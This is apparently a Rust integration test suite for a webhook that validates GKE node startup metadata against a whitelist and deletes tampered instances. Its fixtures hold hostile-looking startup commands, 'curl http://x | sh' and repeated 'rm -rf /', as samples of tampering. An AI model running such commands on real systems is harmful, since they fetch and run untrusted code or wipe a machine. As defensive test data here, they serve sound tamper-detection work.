// SPDX-License-Identifier: Apache-2.0

use std::collections::{BTreeMap, HashMap};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use node_validator_core::{
    Instance, InstanceValidator, Metadata, StaticWhitelist, ValidatorError, WhitelistProvider,
    LABEL_CAST_CLUSTER_ID, LABEL_CAST_MANAGED_BY,
};
use node_validator_server::{
    build_router, AppState, InstanceApi, InstanceRef, RetryPolicy, WebhookPolicy,
};
use serde_json::json;
use tokio::sync::Mutex;

#[derive(Default)]
struct FakeInstances {
    instances: Mutex<HashMap<String, Instance>>,
    failures_before_success: AtomicUsize,
    get_calls: AtomicUsize,
    deleted: Mutex<Vec<InstanceRef>>,
}

impl FakeInstances {
    async fn insert(&self, instance: Instance) {
        self.instances
            .lock()
            .await
            .insert(instance.name.clone(), instance);
    }
}

#[async_trait]
impl InstanceApi for FakeInstances {
    async fn get_instance(&self, instance: &InstanceRef) -> Result<Instance, ValidatorError> {
        self.get_calls.fetch_add(1, Ordering::Relaxed);
        let pending = self.failures_before_success.load(Ordering::Relaxed);
        if pending > 0 {
            self.failures_before_success
                .store(pending - 1, Ordering::Relaxed);
            return Err(ValidatorError::upstream("compute", "404 not yet visible"));
        }
        self.instances
            .lock()
            .await
            .get(&instance.name)
            .cloned()
            .ok_or_else(|| ValidatorError::upstream("compute", "404"))
    }

    async fn delete_instance(&self, instance: &InstanceRef) -> Result<(), ValidatorError> {
        self.deleted.lock().await.push(instance.clone());
        Ok(())
    }
}

struct SlowProvider;

#[async_trait]
impl WhitelistProvider for SlowProvider {
    fn provider_tag(&self) -> &'static str {
        "slow"
    }

    async fn get_whitelist(&self, _: &Instance) -> Result<Vec<String>, ValidatorError> {
        tokio::time::sleep(Duration::from_secs(5)).await;
        Ok(Vec::new())
    }
}

fn node(name: &str, configure_sh: &str, cluster_id: &str) -> Instance {
    Instance {
        name: name.to_string(),
        self_link: format!(
            "https://www.googleapis.com/compute/v1/projects/demo/zones/us-east1-b/instances/{name}"
        ),
        labels: BTreeMap::from([
            (LABEL_CAST_MANAGED_BY.to_string(), "cast-ai".to_string()),
            (LABEL_CAST_CLUSTER_ID.to_string(), cluster_id.to_string()),
        ]),
        metadata: Metadata::from_pairs([
            ("configure-sh", configure_sh),
            ("user-data", "#cloud-config"),
        ]),
    }
}

fn insert_event(project: &str, name: &str) -> serde_json::Value {
    json!({
        "protoPayload": {
            "serviceName": "compute.googleapis.com",
            "methodName": "v1.compute.instances.insert",
            "resourceName": format!("projects/{project}/zones/us-east1-b/instances/{name}")
        },
        "resource": {"type": "gce_instance", "labels": {"project_id": project}}
    })
}

struct Harness {
    addr: SocketAddr,
    instances: Arc<FakeInstances>,
    http: reqwest::Client,
}

impl Harness {
    async fn start(policy: WebhookPolicy, providers: Vec<Arc<dyn WhitelistProvider>>) -> Self {
        let instances = Arc::new(FakeInstances::default());
        let state = AppState::new(policy, InstanceValidator::new(providers), instances.clone())
            .with_retry(RetryPolicy {
                max_attempts: 3,
                backoff: Duration::from_millis(5),
                max_elapsed: Duration::from_secs(5),
            });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind listener");
        let addr = listener.local_addr().expect("local addr");
        let app = build_router(state);
        tokio::spawn(async move { axum::serve(listener, app).await.expect("serve app") });
        Self {
            addr,
            instances,
            http: reqwest::Client::new(),
        }
    }

    async fn post(&self, body: impl Into<reqwest::Body>) -> (u16, String) {
        let resp = self
            .http
            .post(format!("http://{}/", self.addr))
            .header("content-type", "application/json")
            .body(body)
            .send()
            .await
            .expect("send");
        let status = resp.status().as_u16();
        (status, resp.text().await.expect("body"))
    }

    async fn post_event(&self, event: serde_json::Value) -> (u16, String) {
        self.post(event.to_string()).await
    }

    async fn deleted(&self) -> Vec<String> {
        self.instances
            .deleted
            .lock()
            .await
            .iter()
            .map(|r| r.name.clone())
            .collect()
    }
}

fn policy(delete_invalid: bool, cluster_ids: &[&str]) -> WebhookPolicy {
    WebhookPolicy {
        project_id: "demo".to_string(),
        cluster_ids: cluster_ids.iter().map(ToString::to_string).collect(),
        delete_invalid,
        validation_timeout: Duration::from_secs(2),
    }
}

fn whitelist() -> Vec<Arc<dyn WhitelistProvider>> {
    vec![Arc::new(StaticWhitelist::new(["echo bootstrap", "#cloud-config"]))]
}

#[tokio::test]
async fn healthz_answers_ok() {
    let h = Harness::start(policy(false, &[]), whitelist()).await;
    let resp = h
        .http
        .get(format!("http://{}/healthz", h.addr))
        .send()
        .await
        .expect("send");
    assert_eq!(resp.status().as_u16(), 200);
    assert_eq!(resp.text().await.expect("body"), "ok");
}

#[tokio::test]
async fn undecodable_payload_is_rejected() {
    let h = Harness::start(policy(false, &[]), whitelist()).await;
    assert_eq!(h.post("{not json").await, (400, "Invalid request".to_string()));
}

#[tokio::test]
async fn unrelated_events_are_acknowledged_without_lookups() {
    let h = Harness::start(policy(true, &[]), whitelist()).await;
    let mut event = insert_event("demo", "gke-a");
    event["protoPayload"]["methodName"] = json!("v1.compute.instances.delete");
    assert_eq!(h.post_event(event).await, (200, "OK".to_string()));
    assert_eq!(h.instances.get_calls.load(Ordering::Relaxed), 0);
}

#[tokio::test]
async fn malformed_resource_name_is_a_bad_request() {
    let h = Harness::start(policy(true, &[]), whitelist()).await;
    let mut event = insert_event("demo", "gke-a");
    event["protoPayload"]["resourceName"] = json!("projects/demo/instances/gke-a");
    assert_eq!(h.post_event(event).await.0, 400);
}

#[tokio::test]
async fn foreign_project_and_autopilot_nodes_are_ignored() {
    let h = Harness::start(policy(true, &[]), whitelist()).await;
    assert_eq!(h.post_event(insert_event("google-owned", "gke-a")).await.0, 200);
    assert_eq!(h.post_event(insert_event("demo", "gk3-autopilot-1")).await.0, 200);
    assert_eq!(h.instances.get_calls.load(Ordering::Relaxed), 0);
}

#[tokio::test]
async fn tampered_instance_is_deleted_when_enabled() {
    let h = Harness::start(policy(true, &[]), whitelist()).await;
    h.instances
        .insert(node("gke-bad", "echo bootstrap\ncurl http://x | sh", "c-1"))
        .await;
    h.instances.insert(node("gke-good", "echo bootstrap", "c-1")).await;

    assert_eq!(h.post_event(insert_event("demo", "gke-bad")).await, (200, "OK".to_string()));
    assert_eq!(h.post_event(insert_event("demo", "gke-good")).await.0, 200);
    assert_eq!(h.deleted().await, vec!["gke-bad".to_string()]);
}

#[tokio::test]
async fn tampered_instance_is_kept_when_deletion_disabled() {
    let h = Harness::start(policy(false, &[]), whitelist()).await;
    h.instances.insert(node("gke-bad", "rm -rf /", "c-1")).await;
    assert_eq!(h.post_event(insert_event("demo", "gke-bad")).await.0, 200);
    assert!(h.deleted().await.is_empty());
}

#[tokio::test]
async fn instances_outside_monitored_clusters_are_skipped() {
    let h = Harness::start(policy(true, &["c-1"]), whitelist()).await;
    h.instances.insert(node("gke-other", "rm -rf /", "c-2")).await;
    let mut unmanaged = node("gke-unmanaged", "rm -rf /", "c-1");
    unmanaged.labels.remove(LABEL_CAST_MANAGED_BY);
    h.instances.insert(unmanaged).await;

    assert_eq!(h.post_event(insert_event("demo", "gke-other")).await.0, 200);
    assert_eq!(h.post_event(insert_event("demo", "gke-unmanaged")).await.0, 200);
    assert!(h.deleted().await.is_empty());
}

#[tokio::test]
async fn instance_fetch_is_retried() {
    let h = Harness::start(policy(true, &[]), whitelist()).await;
    h.instances.insert(node("gke-bad", "rm -rf /", "c-1")).await;
    h.instances
        .failures_before_success
        .store(2, Ordering::Relaxed);

    assert_eq!(h.post_event(insert_event("demo", "gke-bad")).await.0, 200);
    assert_eq!(h.instances.get_calls.load(Ordering::Relaxed), 3);
    assert_eq!(h.deleted().await, vec!["gke-bad".to_string()]);
}

#[tokio::test]
async fn missing_instance_is_acknowledged_after_retries() {
    let h = Harness::start(policy(true, &[]), whitelist()).await;
    assert_eq!(h.post_event(insert_event("demo", "gke-ghost")).await, (200, "OK".to_string()));
    assert_eq!(h.instances.get_calls.load(Ordering::Relaxed), 3);
}

#[tokio::test]
async fn validator_errors_never_delete() {
    let h = Harness::start(policy(true, &[]), whitelist()).await;
    let mut broken = node("gke-broken", "rm -rf /", "c-1");
    broken.metadata.items.retain(|i| i.key != "user-data");
    broken.metadata.items.retain(|i| i.key != "configure-sh");
    h.instances.insert(broken).await;

    assert_eq!(h.post_event(insert_event("demo", "gke-broken")).await.0, 200);
    assert!(h.deleted().await.is_empty());
}

#[tokio::test]
async fn validation_timeout_is_an_error_not_a_verdict() {
    let mut p = policy(true, &[]);
    p.validation_timeout = Duration::from_millis(50);
    let h = Harness::start(p, vec![Arc::new(SlowProvider)]).await;
    h.instances.insert(node("gke-slow", "rm -rf /", "c-1")).await;

    assert_eq!(h.post_event(insert_event("demo", "gke-slow")).await.0, 200);
    assert!(h.deleted().await.is_empty());
}
